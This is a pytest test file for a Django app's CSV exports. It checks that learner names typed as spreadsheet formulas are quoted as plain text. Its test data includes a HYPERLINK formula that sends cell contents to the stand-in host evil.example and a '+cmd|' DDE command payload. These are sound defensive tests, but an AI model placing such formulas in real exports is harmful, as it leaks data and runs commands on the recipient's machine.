"""A name typed as a spreadsheet formula comes out of every CSV download as plain text."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse

from qmr.csvexport import cell
from tests.qmr.test_permission_matrix import Target

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("name", ["assessment:grid-unit-csv", "assessment:grid-cohort-csv"])
def test_a_formula_in_a_learner_name_is_written_as_text(client: Any, world: Any,
                                                        name: str) -> None:
    target = Target(world, "own")
    learner = world["learner"].learner  # in the target's cohort
    learner.last_name, learner.first_name = FORMULA, "+cmd|' /C calc'!A0"
    learner.centre_ref = "@SUM(1)"
    learner.save(update_fields=["last_name", "first_name", "centre_ref"])
    kwargs = {"cohort_id": target.cohort.pk}
    if name == "assessment:grid-unit-csv":
        kwargs["unit_id"] = target.unit.pk
    client.force_login(world["head"])
    row = next(r for r in _rows(client.get(reverse(name, kwargs=kwargs))) if FORMULA in r[0])
    assert row[:3] == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "'@SUM(1)"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@A1", "\tx", "\rx"])
def test_each_formula_start_is_quoted(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Smith", "O'Neil", "", 12, 3.5, None])
def test_other_cells_are_left_alone(value: Any) -> None:
    assert cell(value) == value


def test_every_csv_download_goes_through_the_one_writer() -> None:
    """No app writes CSV itself: a new export that did would skip the quoting."""
    root = Path(__file__).resolve().parents[2]
    apps = ["qmr", "registrations", "assessment", "verification", "appeals"]
    writers = sorted(str(p.relative_to(root)) for app in apps for p in (root / app).rglob("*.py")
                     if "csv.writer" in p.read_text() or "text/csv" in p.read_text())
    assert writers == ["qmr/csvexport.py"]
